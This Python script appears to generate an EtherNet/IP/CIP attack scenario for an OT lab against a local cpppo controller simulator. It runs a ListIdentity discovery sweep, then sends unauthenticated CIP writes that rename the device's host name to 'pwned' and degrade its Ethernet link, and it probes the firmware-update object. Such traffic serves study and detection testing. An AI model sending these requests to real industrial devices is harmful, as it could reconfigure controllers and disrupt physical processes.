"""EtherNet/IP + CIP attack scenario for make-ot.sh: cpppo server, pycomm3 client.

  python3 enip_attack.py server IP   cpppo's EtherNet/IP controller simulator
                                     (Identity, TCP/IP Interface, Connection
                                     Manager, tag SCADA=INT[10]) on TCP 44818
                                     of every address of the server namespace
                                     (IP and the sweep addresses 10.78.0.10-29)
  python3 enip_attack.py client IP   with pycomm3:
    - ListIdentity (TCP, after RegisterSession) to 10.78.0.10 .. 10.78.0.29:
      a discovery sweep over 20 "devices",
    - to IP, unconnected explicit messages (SendRRData to the Message
      Router):
        Set_Attribute_Single TCP/IP Interface (class 0xF5) instance 1
          attribute 6 (host name) = "pwned",
        Set_Attribute_Single Ethernet Link (class 0xF6) instance 1
          attribute 6 (interface control: 10 Mbit/s half duplex),
        Get_Attribute_All Non-Volatile Storage (class 0xA1) instance 1
          (the firmware-update object).
    cpppo answers each (with an error status where it lacks the object or
    attribute); the requests are what the scenario is about.
"""
import logging
import sys

SWEEP = [f"10.78.0.{i}" for i in range(10, 30)]


def server(_ip):
    from cpppo.server.enip.main import main

    sys.exit(main(argv=["--address", "0.0.0.0:44818", "--no-udp", "SCADA=INT[10]"]))


def client(ip):
    from pycomm3 import CIPDriver, Services

    n = 0
    for host in SWEEP:
        ident = CIPDriver.list_identity(host)
        if not ident:
            raise SystemExit(f"ListIdentity {host}: no answer")
        n += 1
    print(f"ListIdentity sweep over {n} hosts: ok ({ident.get('product_name')})")
    with CIPDriver(ip) as drv:
        for what, cls, attr, data in [
            ("TCP/IP Interface host name", 0xF5, 6, b"\x05\x00pwned\x00"),
            ("Ethernet Link interface control", 0xF6, 6, b"\x02\x00\x0a\x00"),
        ]:
            print(f"Set_Attribute_Single {what} (class {cls:#x}):",
                  answer(drv, Services.set_attribute_single, cls, attr, data, what))
        print("Get_Attribute_All Non-Volatile Storage (class 0xa1):",
              answer(drv, Services.get_attributes_all, 0xA1, b"", b"", "NVS"))


def answer(drv, service, cls, attr, data, what):
    # cpppo answers "service not supported" or a reply pycomm3 cannot
    # parse (an error status without the reply service byte it expects);
    # either way the request went out, which is what the scenario is about.
    try:
        r = drv.generic_message(service=service, class_code=cls, instance=1, attribute=attr,
                                request_data=data, connected=False, unconnected_send=False,
                                route_path=False, name=what)
        return r.error or "ok"
    except Exception as e:  # noqa: BLE001
        return f"error reply ({type(e).__name__})"


if __name__ == "__main__":
    logging.basicConfig(level=logging.ERROR)
    mode, ip = sys.argv[1], sys.argv[2]
    server(ip) if mode == "server" else client(ip)
